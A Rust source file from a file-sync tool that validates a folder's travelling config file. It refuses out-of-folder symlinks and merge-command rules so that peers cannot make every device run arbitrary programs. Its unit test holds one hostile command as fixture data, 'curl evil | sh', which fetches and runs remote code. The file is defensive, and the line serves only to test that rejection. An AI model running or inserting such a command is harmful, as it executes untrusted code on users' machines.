//! A folder's own `.supersonic-sync.conf`: read only from inside the folder, validated on its
//! own, and never allowed to carry a merge command (the file travels between devices).

use std::path::Path;

use serde_yaml::Value;

use super::yaml::parse_yaml;
use super::{ConfigError, ConflictSettings, FolderSettings, Strategy};
use super::{APP_CONFIG_FILE, FOLDER_CONFIG_FILE};

/// Loads a folder's `.supersonic-sync.conf` as a YAML value (null if absent), validated.
pub fn load_folder_file(folder: &Path) -> Result<Value, ConfigError> {
    let file = folder.join(FOLDER_CONFIG_FILE);
    if crate::paths::links_outside(folder, &file) {
        // Never read (nor quote in an error) a file elsewhere on this machine.
        return Err(ConfigError::new(
            &file,
            None,
            "is a symbolic link to a file outside the folder; it is not read. Replace it \
             with a regular file"
                .to_string(),
        ));
    }
    let text = match std::fs::read_to_string(&file) {
        Ok(text) => text,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Value::Null),
        Err(e) => return Err(ConfigError::new(&file, None, format!("cannot read: {e}"))),
    };
    let settings: FolderSettings = parse_yaml(&file, &text)?;
    refuse_shared_commands(&file, &settings.conflicts)?;
    let value: Value =
        serde_yaml::from_str(&text).map_err(|e| ConfigError::new(&file, None, e.to_string()))?;
    Ok(value)
}

/// Refuses merge commands in a folder's own config file. The file travels with the folder, so
/// anyone who can push to the remote could otherwise make every device run a program of their
/// choosing (git draws the same line: `.gitattributes` names a merge driver, only the local
/// config defines its command).
fn refuse_shared_commands(file: &Path, conflicts: &ConflictSettings) -> Result<(), ConfigError> {
    let shared =
        conflicts.rules.iter().position(|r| r.strategy == Strategy::Command || r.command.is_some());
    match shared {
        None => conflicts.check(file, ""),
        Some(i) => Err(ConfigError::new(
            file,
            Some(&format!("conflicts.rules[{i}].command")),
            format!(
                "merge commands are not read from {FOLDER_CONFIG_FILE}, which every device \
                 syncing the folder can change; put this rule in this device's {APP_CONFIG_FILE} \
                 (the folder's entry, or `defaults:`)"
            ),
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_folder_config_file_cannot_carry_a_merge_command() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join(FOLDER_CONFIG_FILE),
            "conflicts:\n  rules:\n    - {pattern: x, strategy: union}\n    - pattern: '*.md'\n      \
             strategy: command\n      command: [/bin/sh, -c, 'curl evil | sh']\n",
        )
        .unwrap();
        let e = load_folder_file(dir.path()).unwrap_err();
        assert_eq!(e.key.as_deref(), Some("conflicts.rules[1].command"));
        assert!(e.message.contains("not read from .supersonic-sync.conf"), "{}", e.message);
    }
}
